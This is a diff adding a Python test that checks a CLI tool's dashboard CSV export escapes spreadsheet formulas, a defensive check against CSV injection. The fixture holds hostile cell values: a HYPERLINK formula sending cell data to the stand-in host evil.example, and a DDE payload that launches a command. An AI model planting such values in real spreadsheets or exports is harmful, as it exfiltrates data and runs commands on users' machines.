@@ -416,3 +416,26 @@ def test_shipped_dashboard_csv_has_one_row_per_indicator(run, shipped: Path) -> 
     table = list(csv.DictReader(io.StringIO(outcome.stdout)))
     assert len(table) == 15
     assert {r["latest_qualifier"] for r in table} == {"", "about", "more-than"}
+
+
+def test_csv_cells_never_run_as_formulas_in_a_spreadsheet(run, make_registry) -> None:  # type: ignore[no-untyped-def]
+    """Record text from a pull request reaches the CSV that the secretariat opens in Excel."""
+    hostile = {
+        "name": {"ar": '=HYPERLINK("http://evil.example/?"&A1,"انقر")', "en": "@SUM(1+1)"},
+        "unit": {"ar": "+cmd|' /C calc'!A0"},
+    }
+    tree = make_registry(
+        {
+            "roadmap/roadmap.yaml": ROADMAP,
+            "roadmap/indicators/falling.yaml": indicator(
+                "falling", observation("2023-01-01", 30), observation("2024-01-01", 25), **hostile
+            ),
+        }
+    )
+    outcome = run(["protsoc", "dashboard", "--format", "csv", "--registry", str(tree.root)])
+    assert outcome.exit_code == 0, outcome.output
+    [row] = list(csv.DictReader(io.StringIO(outcome.stdout)))
+    assert row["name_ar"] == "'" + hostile["name"]["ar"]
+    assert row["name_en"] == "'@SUM(1+1)"
+    assert row["unit"] == "'" + hostile["unit"]["ar"]
+    assert row["change"] == "-5"  # a number protsoc computed stays a number
